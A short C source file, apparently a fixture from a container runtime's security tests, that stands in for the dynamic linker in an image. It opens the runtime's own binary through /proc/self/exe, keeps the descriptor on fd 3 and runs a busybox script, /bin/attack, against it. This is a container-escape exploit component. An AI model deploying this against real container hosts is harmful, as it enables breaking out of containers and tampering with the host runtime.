/* What an image puts in the place of the dynamic linker: started by the kernel with the runtime's file as its own
 * executable, it keeps a descriptor of that file and becomes a shell that attacks it (see binary.rs). */

static long call(long number, long a, long b, long c, long d)
{
#if defined(__x86_64__)
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

#include <sys/syscall.h>

void _start(void)
{
    static const char *const arguments[] = {"sh", "/bin/attack", 0};
    static const char *const variables[] = {"PATH=/bin", 0};
    long file = call(SYS_openat, -100, (long)"/proc/self/exe", 0, 0);
    if (file >= 0 && file != 3) {
        call(SYS_dup3, file, 3, 0, 0);
    }
    call(SYS_execve, (long)"/bin/busybox", (long)arguments, (long)variables, 0);
    call(SYS_exit_group, 97, 0, 0, 0);
}
